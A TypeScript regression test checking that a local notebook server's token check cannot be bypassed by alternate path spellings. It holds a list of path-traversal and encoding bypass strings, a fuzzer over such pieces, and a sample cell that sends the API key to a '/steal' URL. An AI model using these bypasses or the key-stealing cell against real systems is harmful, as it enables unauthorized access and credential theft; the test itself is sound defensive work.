/**
 * H1 (issue 18): the token check of `api-notebook open` cannot be walked around by spelling a
 * path another way. Requests are written by hand on a socket (as `curl --path-as-is` would),
 * against the real bin, by someone who does not have the token: every spelling of an API path
 * is refused, no request reaches the API, nothing of the state comes back and nothing is
 * written to the notebook on disk.
 */
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import fc from 'fast-check';
import { tempDir } from '../helpers/cli.js';
import { json, startTestServer, type TestServer } from '../helpers/server.js';
import { rawTarget, startOpen, type OpenProcess } from './helpers.js';

const SECRET = 'sk_test_target_bypass_secret_7c1e0b';
const NOTEBOOK = `title: Path spellings
inputs:
  apiKey: { secret: true, env: TARGETS_API_KEY }
steps:
  - name: Hello
    request:
      method: GET
      path: /hello
      headers: { authorization: "Bearer \${apiKey}" }
    expect: { status: 200 }
`;
// What /./api/save wrote in the finding: cell 0 rewritten to send the key elsewhere.
const EVIL_CELL = `name: Hello
request:
  method: GET
  url: http://127.0.0.1:9/steal?k=\${apiKey}
expect: { status: 200 }
`;

/** Every way found (and a few more) to write a path that a URL parser reads as `/api/<name>`. */
function spellings(port: number, name: string): string[] {
  return [
    `/./api/${name}`,
    `/%2e/api/${name}`,
    `/%2E/api/${name}`,
    `/x/../api/${name}`,
    `/x/%2e%2e/api/${name}`,
    `/x/.%2e/api/${name}`,
    `/../api/${name}`,
    `/api/./${name}`,
    `/api/x/../${name}`,
    `http://127.0.0.1:${port}/api/${name}`,
    `HTTP://127.0.0.1:${port}/api/${name}`,
    `http://evil.example/api/${name}`,
    `//api/${name}`,
    `//127.0.0.1:${port}/api/${name}`,
    `/%252e/api/${name}`,
    `/%61pi/${name}`,
    `/api%2f${name}`,
    `/.\\api\\${name}`,
    `/\\api/${name}`,
    `\\api\\${name}`,
    `/api/${name};x=1`,
    `/api;/${name}`,
    `/api/${name}%00`,
    `/api/${name}%20`,
    `/api/${name}#x`,
    `/．/api/${name}`,
    `api/${name}`,
    `*`,
    `/api/${name}?${'a'.repeat(4000)}`,
    `${'/.'.repeat(600)}/api/${name}`,
  ];
}

describe('open: one path per request, guarded and routed on the same value (H1)', () => {
  let server: TestServer;
  let open: OpenProcess;
  let file: string;
  let host: string;
  before(async () => {
    server = await startTestServer();
    server.route('GET', '/hello', (_req, res) => json(res, 200, { hello: 'world' }));
    file = join(tempDir(), 'targets.yaml');
    writeFileSync(file, NOTEBOOK);
    open = await startOpen([file, '--base-url', server.url], { TARGETS_API_KEY: SECRET });
    host = `127.0.0.1:${open.port}`;
  });
  after(async () => {
    if (open?.child.exitCode === null) await open.stop();
    await server?.close();
  });

  const actions: Array<[string, string, string]> = [
    ['GET', 'state', ''],
    ['GET', 'events', ''],
    ['POST', 'run', JSON.stringify({ cell: '0' })],
    ['POST', 'run-all', '{}'],
    ['POST', 'reset', '{}'],
    ['POST', 'inputs', JSON.stringify({ values: { apiKey: 'attacker' } })],
    ['POST', 'check', JSON.stringify({ cell: '0', yaml: EVIL_CELL })],
    ['POST', 'save', JSON.stringify({ cell: '0', yaml: EVIL_CELL })],
  ];

  for (const [method, name, body] of actions) {
    it(`refuses every other spelling of /api/${name} (400), without the token as with it`, async () => {
      for (const target of spellings(open.port, name)) {
        for (const withToken of [false, true]) {
          const headers: Record<string, string> = { host, 'content-type': 'application/json' };
          if (withToken) headers['x-api-notebook-token'] = open.token;
          const res = await rawTarget(open.port, method, target, headers, body);
          // 400 from the server, or (for what its HTTP parser already rejects) the connection closed.
          assert.ok(res.status === 400 || res.status === 0, `${method} ${target.slice(0, 80)} (token: ${withToken}) → ${res.status} ${res.body.slice(0, 200)}`);
          assert.doesNotMatch(res.body, /Path spellings|Hello|targets\.yaml/, `${target.slice(0, 80)} leaks the state`);
        }
      }
      assert.equal(server.requests.length, 0, 'no request reached the API');
      assert.equal(readFileSync(file, 'utf8'), NOTEBOOK, 'the notebook on disk is untouched');
    });
  }

  // The class, not only the instances: any target built from the pieces of such spellings (or
  // any printable text at all) either is written exactly as the page writes its paths and is
  // served as that path, or is refused; without the token, only the page's own files answer.
  it('property: a target is served only as the path it is written as, and the API only with the token', async () => {
    const piece = fc.constantFrom('/', '.', '..', '%2e', '%2E', '%2f', '%5c', '%00', '%25', '\\', ';', '?', '#', '&', '=', 'api', 'state', 'save', 'run', 'run-all', 'events', 'page.js', 'x', '~', 'http:', '//', '127.0.0.1', `:${open.port}`, '@', '．');
    const prefix = fc.constantFrom('/.', '/..', '/%2e', '/%2E%2e', '/x/..', '/x/%2e%2e', '/.%2e', '\\.', '/\\', `http://127.0.0.1:${open.port}`, `HTTP://127.0.0.1:${open.port}`, '//', '/', '.');
    const api = fc.constantFrom('/api/state', '/api/save', '/api/run-all', '/api/events', 'api/state', '/state', '/save');
    const target = fc.oneof(
      { weight: 4, arbitrary: fc.tuple(fc.array(fc.oneof(prefix, piece), { maxLength: 4 }), api, fc.array(piece, { maxLength: 2 })).map(([a, b, c]) => [...a, b, ...c].join('')) },
      { weight: 2, arbitrary: fc.array(piece, { minLength: 1, maxLength: 12 }).map((p) => p.join('')) },
      { weight: 1, arbitrary: fc.string({ unit: fc.constantFrom(...'/.%2eE\\;?#apistXY-_~:@!$&()*+,='.split('')), maxLength: 30 }) },
    );
    const publicFiles = new Set(['/', '/page.js', '/page.css']);
    await fc.assert(
      fc.asyncProperty(target, fc.boolean(), async (t, withToken) => {
        const headers: Record<string, string> = { host, 'content-type': 'application/json' };
        if (withToken) headers['x-api-notebook-token'] = open.token;
        // With the token a plain /api/save is a real save: that one names no cell of the file.
        const save = JSON.stringify({ cell: withToken ? 'no-such-cell' : '0', yaml: EVIL_CELL });
        const res = await rawTarget(open.port, t.includes('save') ? 'POST' : 'GET', t, headers, t.includes('save') ? save : '');
        if (res.status !== 200) return;
        const path = t.split('?')[0];
        assert.equal(new URL(t, 'http://x').pathname, path, `${t} was served though it is not written as it reads`);
        if (!withToken) assert.ok(publicFiles.has(path), `${t} answered 200 without the token`);
      }),
      { numRuns: 400 },
    );
    assert.equal(server.requests.length, 0, 'no request reached the API');
    assert.equal(readFileSync(file, 'utf8'), NOTEBOOK, 'the notebook on disk is untouched');
  });

  it('refuses plain spellings that are not the API (403 without the token), and keeps working with it', async () => {
    for (const target of ['/api/state/', '/API/state', '/api/State', '/api/', '/api', '/nothing', '/api/state?token=x', '/api/code/x']) {
      const res = await rawTarget(open.port, 'GET', target, { host });
      assert.equal(res.status, 403, `${target} → ${res.status}`);
    }
    const save = await rawTarget(open.port, 'POST', '/api/save', { host, 'content-type': 'application/json' }, JSON.stringify({ cell: '0', yaml: EVIL_CELL }));
    assert.equal(save.status, 403);
    assert.equal(readFileSync(file, 'utf8'), NOTEBOOK);
    // The page's own spelling, with the token, still works; its static files need no token.
    const state = await rawTarget(open.port, 'GET', '/api/state', { host, 'x-api-notebook-token': open.token });
    assert.equal(state.status, 200);
    assert.match(state.body, /Path spellings/);
    assert.doesNotMatch(state.body, new RegExp(SECRET));
    const withQuery = await rawTarget(open.port, 'GET', '/api/state?x=1', { host, 'x-api-notebook-token': open.token });
    assert.equal(withQuery.status, 200);
    for (const target of ['/', '/page.js', '/page.css']) assert.equal((await rawTarget(open.port, 'GET', target, { host })).status, 200, target);
    assert.equal(server.requests.length, 0);
  });
});
